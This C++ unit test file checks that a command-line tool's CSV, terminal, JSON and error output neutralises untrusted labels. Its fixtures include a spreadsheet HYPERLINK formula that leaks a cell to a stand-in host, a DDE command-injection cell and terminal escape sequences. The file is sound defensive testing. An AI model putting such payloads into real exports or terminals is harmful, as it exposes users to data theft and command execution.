// What the CLI prints from data it did not write (grid labels, names, a coordinator's
// messages): CSV cells a spreadsheet would run as formulas are made inert, numbers
// stay numbers; terminal text shows control characters escaped; JSON stays valid and
// escapes them too; errors stay a screenful.
#include <gtest/gtest.h>

#include <string>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "client/cli/render.h"
#include "client/cli/render_analysis.h"
#include "client/cli/text.h"
#include "client/grid/grid_file.h"

namespace actgrid::cli {
namespace {

constexpr char kFormula[] = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
constexpr char kEscapes[] = "red\x1b[31m\x1b]0;title\x07\xc2\x9b" "2J";

bool HasControl(const std::string& s) {
  for (size_t i = 0; i < s.size(); ++i) {
    const unsigned char c = static_cast<unsigned char>(s[i]);
    if ((c < 0x20 && c != '\n') || c == 0x7f) return true;
    if (c == 0xc2 && i + 1 < s.size() && static_cast<unsigned char>(s[i + 1]) >= 0x80 &&
        static_cast<unsigned char>(s[i + 1]) <= 0x9f)
      return true;
  }
  return false;
}

v1::CompareResponse Compare() {
  v1::CompareResponse c;
  c.set_grid("g");
  c.set_grid_id(1);
  c.set_metric("final_test_acc");
  c.add_by("dataset.path");
  c.add_by("bias");
  for (const char* label : {kFormula, kEscapes, "@SUM(A1)", "+cmd", "-cmd", "\tx"}) {
    v1::CompareRow* row = c.add_rows();
    auto* path = row->add_group();
    path->set_factor("dataset.path");
    path->set_value(label);
    auto* bias = row->add_group();
    bias->set_factor("bias");
    bias->set_value("-0.5");
    row->set_n(2);
    row->set_mean(-1);
    row->set_std(0.5);
    row->set_ci95_low(-1.5e-05);
    row->set_ci95_high(2);
    row->set_trials(2);
  }
  c.set_finished(12);
  c.set_trials(12);
  return c;
}

TEST(OutputSafety, CsvCellsThatLookLikeFormulasAreInertAndNumbersStayNumbers) {
  EXPECT_EQ(CsvField(kFormula), "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(CsvField("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(CsvField("+cmd"), "\"'+cmd\"");
  EXPECT_EQ(CsvField("-cmd"), "\"'-cmd\"");
  EXPECT_EQ(CsvField("\tx"), "\"'\tx\"");
  EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
  for (const char* number : {"-0.5", "-1", "+1", "-1.5e-05", "1e+21", "0.1", "-.5"}) EXPECT_EQ(CsvField(number), number);
  EXPECT_EQ(CsvField("relu"), "relu");
  EXPECT_EQ(CsvField("leaky_relu(alpha=0.01, x)"), "\"leaky_relu(alpha=0.01, x)\"");

  const std::string csv = RenderCompare(Compare(), Format::kCsv);
  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
  EXPECT_NE(csv.find(",-0.5,2,-1,0.5,-1.5e-05,2,"), std::string::npos) << csv;
  for (absl::string_view line : absl::StrSplit(csv, '\n')) {
    for (const char* lead : {"=", "+", "@", "-c"}) EXPECT_FALSE(absl::StartsWith(line, lead)) << line;
    EXPECT_EQ(line.find(",="), absl::string_view::npos) << line;
    EXPECT_EQ(line.find(",@"), absl::string_view::npos) << line;
  }

  // Export rows: factor labels and the last error go through the same quoting.
  v1::ExportChunk first;
  first.add_factors("dataset.path");
  ExportWriter writer(Format::kCsv, false);
  writer.Header(first);
  v1::ExportChunk chunk;
  v1::ExportTrial* t = chunk.add_rows();
  t->set_trial_id(1);
  t->set_state(v1::TRIAL_STATE_FAILED);
  auto* g = t->add_factors();
  g->set_factor("dataset.path");
  g->set_value(kFormula);
  t->set_last_error("=cmd|' /C calc'!A0");
  const std::string rows = writer.Rows(chunk);
  EXPECT_NE(rows.find(",\"'=HYPERLINK("), std::string::npos) << rows;
  EXPECT_NE(rows.find(",\"'=cmd|' /C calc'!A0\","), std::string::npos) << rows;
}

TEST(OutputSafety, TerminalTextShowsControlCharactersEscaped) {
  EXPECT_EQ(TerminalText(kEscapes), "red\\x1b[31m\\x1b]0;title\\x07\\u009b2J");
  EXPECT_EQ(TerminalText("a\nb\x7f\tc é"), "a\nb\\x7f\\x09c é");

  const std::string table = RenderCompare(Compare(), Format::kTable);
  EXPECT_FALSE(HasControl(table)) << table;
  EXPECT_NE(table.find("red\\x1b[31m"), std::string::npos) << table;
  EXPECT_FALSE(HasControl(RenderCompare(Compare(), Format::kMatrix)));

  v1::Grid grid;
  grid.set_id(3);
  grid.set_name(kEscapes);
  EXPECT_FALSE(HasControl(GridLine(grid)));
  EXPECT_FALSE(HasControl(RenderGrids({grid})));
  v1::WorkerInfo worker;
  worker.set_worker_id("w\x1b[2J");
  worker.set_hostname("h\x9b");
  EXPECT_FALSE(HasControl(RenderWorkers({worker}, 0)));
  // A cell with a newline stays on its row.
  EXPECT_EQ(AlignColumns({"a"}, {{"x\ny"}}, 1), "a\n------\nx\\x0ay\n");

  v1::CurvesResponse curves;
  curves.set_grid(kEscapes);
  curves.set_metric("test_acc");
  curves.add_by("activation");
  auto* group = curves.add_groups();
  auto* value = group->add_group();
  value->set_factor("activation");
  value->set_value(kEscapes);
  auto* point = group->add_points();
  point->set_n(1);
  EXPECT_FALSE(HasControl(RenderCurves(curves, Format::kTable)));
  EXPECT_FALSE(HasControl(RenderCurves(curves, Format::kSvg)));
}

TEST(OutputSafety, JsonEscapesControlCharactersAndKeepsTheRest) {
  EXPECT_EQ(JsonString(kEscapes), "\"red\\u001b[31m\\u001b]0;title\\u0007\\u009b2J\"");
  EXPECT_EQ(JsonString("q\"b\\ \x7f é ✓"), "\"q\\\"b\\\\ \\u007f é ✓\"");
  const std::string json = RenderCompare(Compare(), Format::kJson);
  EXPECT_FALSE(HasControl(json)) << json;
  EXPECT_NE(json.find("\"bias\": -0.5"), std::string::npos) << json;  // numbers stay numbers
}

TEST(OutputSafety, ErrorTextIsEscapedCutAndAtMostAScreenful) {
  std::string message;
  for (int i = 0; i < 1000; ++i) absl::StrAppend(&message, i ? "\n" : "", "problem \x1b[2J ", std::string(5000, 'v'));
  const std::string text = ErrorText(message);
  const std::vector<std::string> lines = absl::StrSplit(text, '\n');
  ASSERT_EQ(lines.size(), grid::kMaxErrorsListed + 2);
  EXPECT_EQ(lines.back(), "... and 979 more lines");
  for (const std::string& line : lines) EXPECT_LE(line.size(), grid::kMaxErrorLineBytes + 32);
  EXPECT_FALSE(HasControl(text));
}

}  // namespace
}  // namespace actgrid::cli
